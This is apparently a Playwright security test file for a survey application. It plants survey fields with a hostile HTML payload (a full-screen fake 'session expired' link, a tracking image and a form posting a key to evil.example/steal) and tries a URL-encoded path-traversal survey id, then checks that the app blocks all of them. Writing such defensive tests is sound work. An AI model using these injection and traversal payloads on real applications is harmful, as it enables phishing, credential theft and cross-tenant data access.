// Survey content is written by other members of the organization: whatever HTML it holds must never
// draw over the app, load anything from the app's page, or open a link that can reach back to it.
import type { Page, Request } from '@playwright/test';
import type { Survey } from '../src/contracts/survey';
import { expectNoSeriousA11yViolations } from './support/axe';
import { expect, mock, test } from './support/mock';

const EVIL_HOST = 'evil.example';
const overlay = (label: string) =>
  `<p>Intro ${label}</p>` +
  `<a href="https://${EVIL_HOST}/login-${label}" style="position:fixed;top:0;left:0;width:100vw;height:100vh;` +
  `z-index:2147483647;background:#fff;display:flex;align-items:center;justify-content:center">` +
  `Surveyor: your session expired (${label}). Click to reconnect.</a>` +
  `<img src="https://${EVIL_HOST}/seen-${label}.png" alt="">` +
  `<form action="https://${EVIL_HOST}/steal"><input name="key" aria-label="Key ${label}"></form>`;

/** Plants a survey whose every HTML-capable field carries the overlay, as any org member could. */
async function plantSurvey(page: Page): Promise<Survey> {
  await page.goto('/projects/1/surveys');
  await mock.reset(page);
  return mock.apiPost<Survey>(page, '/api/projects/1/surveys/', {
    name: 'Planted survey',
    description: overlay('survey-description'),
    type: 'popover',
    questions: [
      {
        type: 'open',
        question: `What do you think? ${overlay('question-text')}`,
        description: overlay('description'),
        descriptionContentType: 'html',
      },
    ],
    appearance: {
      // posthog-js shows the thank-you screen (and so the walk-through) only when this is on.
      displayThankYouMessage: true,
      thankYouMessageHeader: overlay('thanks-header'),
      thankYouMessageDescription: overlay('thanks-description'),
      thankYouMessageDescriptionContentType: 'html',
    },
  });
}

/** Requests to the payload's host made by the app's own document (the sandboxed preview frame aside). */
function recordEvilRequests(page: Page): string[] {
  const seen: string[] = [];
  const record = (request: Request) => {
    if (new URL(request.url()).hostname === EVIL_HOST && request.frame() === page.mainFrame())
      seen.push(request.url());
  };
  page.on('request', record);
  return seen;
}

async function expectAppStillOnTop(page: Page) {
  const centre = await page.evaluate(() => {
    const element = document.elementFromPoint(window.innerWidth / 2, window.innerHeight / 2);
    return {
      inApp: Boolean(element?.closest('#root')),
      evilLink: Boolean(element?.closest('a[href*="evil.example"]')),
      tag: element?.tagName ?? null,
    };
  });
  expect(centre, 'the element at the centre of the page').toMatchObject({ inApp: true, evilLink: false });
  // Nothing from survey content may carry styles, images or forms into the app's document.
  const leaks = await page.evaluate(() => ({
    // The payload's z-index marks its styles; the app's own fixed elements (live regions) do not use it.
    styled: document.querySelectorAll('[style*="2147483647"]').length,
    images: document.querySelectorAll('img[src*="evil.example"]').length,
    forms: document.querySelectorAll('form[action*="evil.example"]').length,
    unsafeLinks: [...document.querySelectorAll<HTMLAnchorElement>('a[href*="evil.example"]')].filter(
      (link) =>
        link.target !== '_blank' ||
        !link.relList.contains('noopener') ||
        !link.relList.contains('noreferrer') ||
        link.hasAttribute('style'),
    ).length,
  }));
  expect(leaks).toEqual({ styled: 0, images: 0, forms: 0, unsafeLinks: 0 });
}

test.beforeEach(async ({ page }) => {
  // The payload's host is made up; answer it locally so a request (if any) is fast and recorded.
  await page.route(`https://${EVIL_HOST}/**`, (route) => route.fulfill({ status: 204 }));
});

test('survey HTML never takes over the survey page: overview, flow, walk-through, preview, activity', async ({
  page,
}) => {
  const survey = await plantSurvey(page);
  const evil = recordEvilRequests(page);
  const detail = `/projects/1/surveys/${survey.id}`;

  await page.goto(detail);
  await expect(page.getByRole('heading', { name: /Planted survey/ })).toBeVisible();
  await expectAppStillOnTop(page);
  await expectNoSeriousA11yViolations(page);

  await page.getByRole('tab', { name: 'Flow' }).click();
  const respondent = page.getByRole('region', { name: 'Respondent view' });
  await expect(respondent.getByText('Intro description')).toBeVisible();
  await expectAppStillOnTop(page);
  // The description's link stays a link, opened apart from the app.
  const link = respondent.getByRole('link', { name: /session expired \(description\)/ });
  await expect(link).toHaveAttribute('target', '_blank');
  await expect(link).toHaveAttribute('rel', 'noopener noreferrer');
  await expectNoSeriousA11yViolations(page, ['.react-flow__minimap']);

  await respondent.getByLabel('Your answer').fill('Fine');
  await respondent.getByRole('button', { name: 'Submit' }).click();
  await expect(page.getByText(/Intro thanks-header/)).toBeVisible();
  await expectAppStillOnTop(page);
  await expectNoSeriousA11yViolations(page, ['.react-flow__minimap']);

  await page.getByRole('tab', { name: 'Preview' }).click();
  await expect(page.locator('iframe[title]').first()).toBeVisible();
  await expectAppStillOnTop(page);
  await expectNoSeriousA11yViolations(page);

  await page.getByRole('tab', { name: 'Activity' }).click();
  await expect(page.getByRole('tabpanel', { name: 'Activity' })).toBeVisible();
  await expectAppStillOnTop(page);

  await page.goto('/projects/1/surveys');
  await expect(page.getByRole('link', { name: 'Planted survey' })).toBeVisible();
  await expectAppStillOnTop(page);
  expect(evil, 'requests to the payload host from the app page').toEqual([]);
});

test('survey HTML never takes over the editor: questions, appearance and flow tabs', async ({ page }) => {
  const survey = await plantSurvey(page);
  const evil = recordEvilRequests(page);

  await page.goto(`/projects/1/surveys/${survey.id}/edit`);
  await expect(page.getByRole('textbox', { name: 'Survey name' })).toHaveValue('Planted survey');
  await expectAppStillOnTop(page);
  await expectNoSeriousA11yViolations(page);

  await page.getByRole('tab', { name: /Appearance/ }).click();
  await expectAppStillOnTop(page);
  await expectNoSeriousA11yViolations(page);

  await page.getByRole('tab', { name: /^Flow/ }).click();
  const respondent = page.getByRole('region', { name: 'Respondent view' });
  await expect(respondent.getByText('Intro description')).toBeVisible();
  await expectAppStillOnTop(page);
  await expect(respondent.getByRole('link', { name: /session expired \(description\)/ })).toHaveAttribute(
    'rel',
    'noopener noreferrer',
  );
  await expectNoSeriousA11yViolations(page, ['.react-flow__minimap']);
  expect(evil, 'requests to the payload host from the app page').toEqual([]);
});

test("a survey id in the address bar never climbs into another project's API paths", async ({ page }) => {
  await page.goto('/projects/1/surveys');
  const { results } = await mock.apiGet<{ results: { id: string; name: string }[] }>(
    page,
    '/api/projects/2/surveys/',
  );
  const target = results[0]!;
  const project2: string[] = [];
  page.on('request', (request) => {
    if (new URL(request.url()).pathname.startsWith('/api/projects/2/')) project2.push(request.url());
  });
  await page.goto(`/projects/1/surveys/..%2F..%2F2%2Fsurveys%2F${target.id}`);
  await expect(page.getByRole('heading', { name: 'Page not found' })).toBeVisible();
  await expect(page.getByText(target.name)).toHaveCount(0);
  expect(project2).toEqual([]);
  await expectNoSeriousA11yViolations(page);
});

test.describe('dark mode', () => {
  test.use({ colorMode: 'dark' });

  test('a link kept from a description stays readable in the walk-through', async ({ page }) => {
    const survey = await plantSurvey(page);
    await page.goto(`/projects/1/surveys/${survey.id}?tab=flow`);
    const respondent = page.getByRole('region', { name: 'Respondent view' });
    await expect(respondent.getByRole('link', { name: /session expired \(description\)/ })).toBeVisible();
    await expectAppStillOnTop(page);
    await expectNoSeriousA11yViolations(page, ['.react-flow__minimap']);
  });
});
